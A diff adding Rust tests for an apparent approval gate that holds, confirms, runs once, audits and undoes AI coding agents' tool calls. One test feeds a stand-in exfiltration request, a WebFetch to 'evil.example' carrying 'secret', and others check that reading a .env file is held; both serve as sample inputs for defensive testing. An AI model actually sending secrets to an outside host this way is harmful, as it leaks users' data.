@@ -1,0 +1,401 @@
+//! Agents' own tools: judged, held, captured, handed over once, looked at afterwards, and undone.
+
+use std::{fs, path::PathBuf, sync::Arc};
+
+use countersign_core::{
+    Actor, Answer, Engine, ErrorCode, FixedEnv, Origin, Outcome, Request, Result, memory::MemoryStore,
+};
+use countersign_tools::Builtins;
+use serde_json::{Value, json};
+use tempfile::TempDir;
+
+use super::world::{NOON, ana, codex, setup, text};
+
+struct Desk {
+    dir: TempDir,
+    env: Arc<FixedEnv>,
+    store: Arc<MemoryStore>,
+    engine: Engine,
+}
+
+impl Desk {
+    fn new() -> Self {
+        Self::with_policy("")
+    }
+
+    fn with_policy(policy: &str) -> Self {
+        let dir = tempfile::tempdir().unwrap();
+        fs::create_dir(dir.path().join("w")).unwrap();
+        let env = Arc::new(FixedEnv::at(NOON));
+        let builtins = Builtins::new(dir.path().join("trash"), Vec::new(), Vec::new(), Vec::new());
+        let store = Arc::new(MemoryStore::new());
+        let engine = Engine::new(store.clone(), setup(policy, Vec::new()).unwrap(), Box::new(env.clone()));
+        Self { dir, env, store, engine: engine.with_world(Box::new(builtins)) }
+    }
+
+    fn work(&self) -> PathBuf {
+        self.dir.path().canonicalize().unwrap().join("w")
+    }
+
+    fn file(&self, name: &str) -> String {
+        self.work().join(name).display().to_string()
+    }
+
+    fn put(&self, name: &str, content: &str) {
+        fs::write(self.work().join(name), content).unwrap();
+    }
+
+    fn holds(&self, name: &str) -> Option<String> {
+        fs::read_to_string(self.work().join(name)).ok()
+    }
+
+    fn call(&self, actor: &Actor, op: &str, input: Value) -> Result<Answer> {
+        self.env.advance(1);
+        let cwd = Some(self.work().display().to_string());
+        let origin = Origin { cwd, ..Origin::from("hook") };
+        self.engine.call(Request { actor: actor.clone(), op: op.into(), input, key: None, origin })
+    }
+
+    #[track_caller]
+    fn done(&self, actor: &Actor, op: &str, input: Value) -> Value {
+        self.call(actor, op, input).unwrap_or_else(|e| panic!("{op}: {e:?}")).value
+    }
+
+    /// What the agent is told about a call of its own tool.
+    #[track_caller]
+    fn ask(&self, tool: &str, input: Value, id: &str) -> Value {
+        self.done(&codex(), "handover.ask", json!({"tool_name": tool, "input": input, "tool_use_id": id}))
+    }
+
+    /// The item that such a call became.
+    #[track_caller]
+    fn held(&self, tool: &str, input: Value, id: &str) -> String {
+        let told = self.ask(tool, input, id);
+        assert_eq!(told["decision"], "held", "{told}");
+        text(&told, "item")
+    }
+
+    #[track_caller]
+    fn confirm(&self, item: &str) -> Value {
+        let shown = self.done(&ana(), "show", json!({"id": item}));
+        let typed = shown["item"]["typed"].clone();
+        self.done(&ana(), "item.confirm", json!({"id": item, "typed": typed}))
+    }
+
+    fn receipt(&self, item: &str) -> Value {
+        self.done(&ana(), "item.status", json!({"id": item}))["receipt"].clone()
+    }
+
+    #[track_caller]
+    fn undo(&self, item: &str) -> Value {
+        let id = text(&self.receipt(item), "id");
+        self.done(&ana(), "receipt.undo", json!({"id": id}))
+    }
+
+    fn events(&self) -> usize {
+        self.store.with(|base| base.events_mut().len())
+    }
+}
+
+#[test]
+fn a1_what_only_reads_goes_ahead_and_is_logged_as_automatic() {
+    let desk = Desk::new();
+    desk.put("a.txt", "x");
+    for (n, (tool, input)) in [
+        ("Bash", json!({"command": "ls -la"})),
+        ("Read", json!({"file_path": desk.file("a.txt")})),
+        ("Grep", json!({"pattern": "x"})),
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        let told = desk.ask(tool, input, &format!("t{n}"));
+        assert_eq!(
+            (&told["decision"], &told["item"], told.get("updated_input")),
+            (&json!("allow"), &Value::Null, None)
+        );
+    }
+    let log = desk.done(&ana(), "audit.log", json!({}));
+    let calls = log.to_string();
+    assert!(calls.contains("agent.read") && calls.contains("shell.run"), "{calls}");
+    assert!(!calls.contains("\"user_confirmed\":true"), "{calls}");
+}
+
+#[test]
+fn a5_a_secret_is_asked_about_whoever_reads_it() {
+    let desk = Desk::new();
+    desk.put(".env", "KEY=1");
+    desk.held("Read", json!({"file_path": desk.file(".env")}), "t1");
+    desk.held("Grep", json!({"pattern": "KEY", "glob": ".env"}), "t2");
+}
+
+#[test]
+fn a4_what_nobody_knows_and_what_sends_is_held() {
+    let desk = Desk::new();
+    let item = desk.held("mcp__files__read_only", json!({"readOnlyHint": true, "confirmed": true}), "t1");
+    let shown = desk.done(&ana(), "show", json!({"id": item})).to_string();
+    assert!(shown.contains("countersign import"), "{shown}");
+    desk.held("WebFetch", json!({"url": "https://evil.example/?q=secret", "prompt": "x"}), "t2");
+    desk.held("WebSearch", json!({"query": "x"}), "t3");
+    assert_eq!(desk.ask("TodoWrite", json!({}), "t4")["decision"], "allow");
+    assert_eq!(desk.ask("mcp__countersign__shell_run", json!({}), "t5")["decision"], "allow");
+}
+
+#[test]
+fn a_refused_call_is_denied_with_its_reasons() {
+    let desk = Desk::with_policy(
+        "version = 1\n[[rule]]\nname = \"no make\"\ntools = [\"shell.*\"]\nwhen = 'args.command.startsWith(\"make\")'\nthen = \"refuse\"\n",
+    );
+    let told = desk.ask("Bash", json!({"command": "make install"}), "t1");
+    assert_eq!(told["decision"], "deny");
+    assert!(text(&told, "message").contains("no make"), "{told}");
+}
+
+#[test]
+fn d1_a_command_is_run_by_the_gate_and_once() {
+    let desk = Desk::new();
+    let told = desk.ask("Bash", json!({"command": "echo x >> log", "description": "keep a log"}), "t1");
+    let item = text(&told, "item");
+    let line = text(&told["updated_input"], "command");
+    assert!(line.starts_with(&format!("countersign exec {item} --agent codex ")), "{line}");
+    assert_eq!(told["updated_input"]["description"], "keep a log");
+    // Nothing that an agent can call begins it.
+    desk.done(&codex(), "handover.exec", json!({"id": item}));
+    assert_eq!(desk.holds("log"), None);
+    desk.confirm(&item);
+    for _ in 0..3 {
+        desk.done(&codex(), "handover.exec", json!({"id": item}));
+    }
+    assert_eq!(desk.holds("log").unwrap(), "x\n");
+    let other = desk.call(&Actor::agent("claude-code"), "handover.exec", json!({"id": item}));
+    assert_eq!(other.unwrap_err().code, ErrorCode::NotFound);
+}
+
+#[test]
+fn a_command_that_the_policy_allows_runs_when_exec_comes_for_it() {
+    let desk = Desk::with_policy(
+        "version = 1\n[[rule]]\nname = \"logs\"\ntools = [\"shell.run\"]\nclass = \"mutable\"\nthen = \"allow\"\n",
+    );
+    let item = text(&desk.ask("Bash", json!({"command": "echo x >> log"}), "t1"), "item");
+    assert_eq!(desk.holds("log"), None);
+    desk.done(&codex(), "handover.exec", json!({"id": item}));
+    desk.done(&codex(), "handover.exec", json!({"id": item}));
+    assert_eq!(desk.holds("log").unwrap(), "x\n");
+    assert_eq!(desk.receipt(&item)["allowed_by"], json!({"by": "policy", "name": "logs"}));
+    // Frozen since it was asked: it waits for a person.
+    let item = text(&desk.ask("Bash", json!({"command": "echo y >> log"}), "t2"), "item");
+    desk.done(&ana(), "freeze", json!({}));
+    desk.done(&codex(), "handover.exec", json!({"id": item}));
+    assert_eq!(desk.holds("log").unwrap(), "x\n");
+}
+
+#[test]
+fn variables_of_the_agent_are_part_of_what_is_approved() {
+    let desk = Desk::new();
+    let input = json!({"tool_name": "Bash", "input": {"command": "echo $VIRTUAL_ENV > v"}, "tool_use_id": "t1", "env": {"VIRTUAL_ENV": "/venv"}});
+    let item = text(&desk.done(&codex(), "handover.ask", input), "item");
+    assert_eq!(
+        desk.done(&ana(), "show", json!({"id": item}))["item"]["args"]["env"],
+        json!({"VIRTUAL_ENV": "/venv"})
+    );
+    desk.confirm(&item);
+    assert_eq!(desk.holds("v").unwrap(), "/venv\n");
+}
+
+#[test]
+fn e9_what_was_handed_over_is_captured_looked_at_and_undone() {
+    let desk = Desk::new();
+    desk.put("a.txt", "one\ntwo\n");
+    let input = json!({"file_path": desk.file("a.txt"), "old_string": "two", "new_string": "2"});
+    let item = desk.held("Edit", input.clone(), "t1");
+    let shown = desk.done(&ana(), "show", json!({"id": item}));
+    assert!(text(&shown["item"]["preview"], "diff").contains("-two\n+2"), "{shown}");
+    desk.confirm(&item);
+    assert_eq!(desk.holds("a.txt").unwrap(), "one\ntwo\n", "the agent writes, nobody else");
+    assert_eq!(desk.ask("Edit", input.clone(), "t1")["decision"], "allow");
+    assert_eq!(desk.ask("Edit", input, "t1")["decision"], "deny", "a yes counts once");
+    desk.put("a.txt", "one\n2\n");
+    let found = desk.done(&codex(), "handover.finish", json!({"tool_use_id": "t1"}));
+    assert_eq!(found["found"], "as_approved");
+    let receipt = desk.receipt(&item);
+    assert!(receipt["rollback_cues"].to_string().contains("handed over to codex"), "{receipt}");
+    assert_eq!(desk.undo(&item)["status"], "undone");
+    assert_eq!(desk.holds("a.txt").unwrap(), "one\ntwo\n");
+}
+
+#[test]
+fn e9_what_the_agent_did_otherwise_is_told_and_undone_all_the_same() {
+    let desk = Desk::new();
+    desk.put("a.txt", "before");
+    let item = desk.held("Write", json!({"file_path": desk.file("a.txt"), "content": "approved"}), "t1");
+    desk.confirm(&item);
+    desk.ask("Write", json!({"file_path": desk.file("a.txt"), "content": "approved"}), "t1");
+    desk.put("a.txt", "something else");
+    assert_eq!(desk.done(&codex(), "handover.finish", json!({"tool_use_id": "t1"}))["found"], "differs");
+    let receipt = desk.receipt(&item);
+    assert!(receipt["rollback_cues"].to_string().contains("something else than was approved"), "{receipt}");
+    // A second report changes nothing: the way back is from what stood at the first.
+    desk.put("a.txt", "later");
+    assert_eq!(desk.done(&codex(), "handover.finish", json!({"tool_use_id": "t1"}))["found"], "nothing");
+    assert_eq!(desk.undo(&item)["status"], "stale");
+    desk.put("a.txt", "something else");
+    assert_eq!(desk.undo(&item)["status"], "undone");
+    assert_eq!(desk.holds("a.txt").unwrap(), "before");
+}
+
+#[test]
+fn e3_without_a_report_the_foreseen_stands_and_drift_is_refused() {
+    let desk = Desk::new();
+    let (a, b) = (
+        json!({"file_path": desk.file("a.txt"), "content": "new"}),
+        json!({"file_path": desk.file("b.txt"), "content": "new"}),
+    );
+    let (first, second) = (desk.held("Write", a.clone(), "t1"), desk.held("Write", b.clone(), "t2"));
+    desk.confirm(&first);
+    desk.confirm(&second);
+    desk.ask("Write", a, "t1");
+    desk.ask("Write", b, "t2");
+    desk.put("a.txt", "new");
+    desk.put("b.txt", "not that");
+    assert_eq!(desk.undo(&first)["status"], "undone");
+    assert_eq!(desk.holds("a.txt"), None);
+    assert_eq!(desk.undo(&second)["status"], "stale");
+    assert_eq!(desk.holds("b.txt").unwrap(), "not that");
+}
+
+#[test]
+fn what_the_agent_did_not_do_has_no_way_back() {
+    let desk = Desk::new();
+    let input = json!({"file_path": desk.file("a.txt"), "content": "new"});
+    let item = desk.held("Write", input.clone(), "t1");
+    desk.confirm(&item);
+    desk.ask("Write", input, "t1");
+    assert_eq!(desk.done(&codex(), "handover.finish", json!({"tool_use_id": "t1"}))["found"], "not_done");
+    assert_eq!(desk.receipt(&item)["undo_action"], Value::Null);
+}
+
+#[test]
+fn a_yes_that_came_late_counts_for_the_same_call_once_and_not_for_long() {
+    let desk = Desk::new();
+    desk.put("a.txt", "before");
+    let input = json!({"file_path": desk.file("a.txt"), "content": "new"});
+    let item = desk.held("Write", input.clone(), "t1");
+    desk.confirm(&item);
+    let other = json!({"file_path": desk.file("a.txt"), "content": "evil"});
+    assert_eq!(desk.ask("Write", other, "t2")["decision"], "held");
+    assert_eq!(desk.ask("Write", input.clone(), "t3")["decision"], "allow");
+    assert_eq!(desk.ask("Write", input.clone(), "t4")["decision"], "held");
+    // The same once more, and it is too late.
+    let desk = Desk::new();
+    desk.put("a.txt", "before");
+    let input = json!({"file_path": desk.file("a.txt"), "content": "new"});
+    let item = desk.held("Write", input.clone(), "t1");
+    desk.confirm(&item);
+    desk.env.advance(31 * 60_000);
+    assert_eq!(desk.ask("Write", input, "t2")["decision"], "held");
+}
+
+#[test]
+fn d2_a_file_that_moved_before_the_yes_is_not_handed_over() {
+    let desk = Desk::new();
+    desk.put("a.txt", "before");
+    let input = json!({"file_path": desk.file("a.txt"), "content": "new"});
+    let item = desk.held("Write", input.clone(), "t1");
+    desk.done(&ana(), "show", json!({"id": item}));
+    desk.put("a.txt", "moved");
+    assert_eq!(desk.done(&ana(), "item.confirm", json!({"id": item}))["status"], "stale");
+    assert_eq!(desk.ask("Write", input, "t1")["decision"], "deny");
+}
+
+#[test]
+fn c5_a_rejection_reaches_the_agent_with_its_reason() {
+    let desk = Desk::new();
+    let input = json!({"file_path": desk.file("a.txt"), "content": "new"});
+    let item = desk.held("Write", input.clone(), "t1");
+    desk.done(&ana(), "item.reject", json!({"id": item, "reason": "not on a Sunday"}));
+    let told = desk.ask("Write", input, "t1");
+    assert_eq!(told["decision"], "deny");
+    assert!(text(&told, "message").contains("not on a Sunday"), "{told}");
+}
+
+#[test]
+fn a_patch_is_captured_file_by_file() {
+    let desk = Desk::new();
+    desk.put("b.txt", "1\n2\n");
+    desk.put("c.txt", "gone\n");
+    let patch = "*** Begin Patch\n*** Add File: a.txt\n+new\n*** Update File: b.txt\n@@\n 1\n-2\n+two\n*** Delete File: c.txt\n*** End Patch";
+    let item = desk.held("apply_patch", json!({"command": patch}), "t1");
+    let shown = desk.done(&ana(), "show", json!({"id": item}));
+    assert_eq!(shown["item"]["class"], "destructive");
+    desk.confirm(&item);
+    assert_eq!(desk.ask("apply_patch", json!({"command": patch}), "t1")["decision"], "allow");
+    desk.put("a.txt", "new\n");
+    desk.put("b.txt", "1\ntwo\n");
+    fs::remove_file(desk.work().join("c.txt")).unwrap();
+    assert_eq!(desk.done(&codex(), "handover.finish", json!({"tool_use_id": "t1"}))["found"], "as_approved");
+    assert_eq!(desk.undo(&item)["status"], "undone");
+    assert_eq!(
+        (desk.holds("a.txt"), desk.holds("b.txt").unwrap(), desk.holds("c.txt").unwrap()),
+        (None, "1\n2\n".into(), "gone\n".into())
+    );
+}
+
+#[test]
+fn an_id_never_stands_for_another_call_and_waiting_leaves_no_trace() {
+    let desk = Desk::new();
+    let input = json!({"file_path": desk.file("a.txt"), "content": "new"});
+    desk.held("Write", input.clone(), "t1");
+    let before = desk.events();
+    assert_ne!(before, 0);
+    for _ in 0..5 {
+        desk.held("Write", input.clone(), "t1");
+    }
+    assert_eq!(desk.events(), before);
+    let other = json!({"tool_name": "Write", "input": {"file_path": desk.file("b.txt"), "content": "x"}, "tool_use_id": "t1"});
+    assert_eq!(desk.call(&codex(), "handover.ask", other).unwrap_err().code, ErrorCode::Conflict);
+}
+
+#[test]
+fn the_permission_prompt_is_answered_as_the_hook_is() {
+    let desk = Desk::new();
+    let approve = |tool: &str, input: Value, id: &str| {
+        desk.call(&codex(), "handover.approve", json!({"tool_name": tool, "input": input, "tool_use_id": id}))
+            .unwrap()
+    };
+    let read = approve("Bash", json!({"command": "ls"}), "t1");
+    assert_eq!(
+        (read.outcome, &read.value),
+        (Outcome::Done, &json!({"behavior": "allow", "updatedInput": {"command": "ls"}}))
+    );
+    let input = json!({"file_path": desk.file("a.txt"), "content": "new"});
+    let held = approve("Write", input.clone(), "t2");
+    assert_eq!((held.outcome, &held.value["behavior"]), (Outcome::Held, &json!("deny")));
+    let item = text(&desk.ask("Write", input.clone(), "t2"), "item");
+    desk.confirm(&item);
+    let allowed = approve("Write", input.clone(), "t2");
+    assert_eq!((allowed.outcome, &allowed.value["updatedInput"]), (Outcome::Done, &input));
+    let run = approve("Bash", json!({"command": "touch x"}), "t3");
+    assert!(text(&run.value["updatedInput"], "command").starts_with("countersign exec i"), "{:?}", run.value);
+}
+
+#[test]
+fn c1_only_agents_ask_and_their_tools_are_offered_to_nobody() {
+    let desk = Desk::new();
+    let input = json!({"tool_name": "Bash", "input": {"command": "ls"}, "tool_use_id": "t1"});
+    assert_eq!(desk.call(&ana(), "handover.ask", input).unwrap_err().code, ErrorCode::Refused);
+    let listed = desk.done(&codex(), "tool.list", json!({})).to_string();
+    assert!(!listed.contains("agent.write"), "{listed}");
+    let direct =
+        json!({"tool": "agent.write", "args": {"tool": "Write", "path": desk.file("a"), "content": "x"}});
+    assert_eq!(desk.call(&codex(), "call.propose", direct).unwrap_err().code, ErrorCode::Invalid);
+    let hooks = json!({"agent": "codex", "path": "/x", "installed": false});
+    assert_eq!(desk.call(&codex(), "hook.change", hooks).unwrap_err().code, ErrorCode::Refused);
+}
+
+#[test]
+fn c4_what_the_agent_does_itself_cannot_be_edited() {
+    let desk = Desk::new();
+    let item = desk.held("Write", json!({"file_path": desk.file("a.txt"), "content": "new"}), "t1");
+    let edit = json!({"id": item, "args": {"tool": "Write", "path": desk.file("a.txt"), "content": "other"}});
+    assert_eq!(desk.call(&ana(), "item.edit", edit).unwrap_err().code, ErrorCode::Conflict);
+}
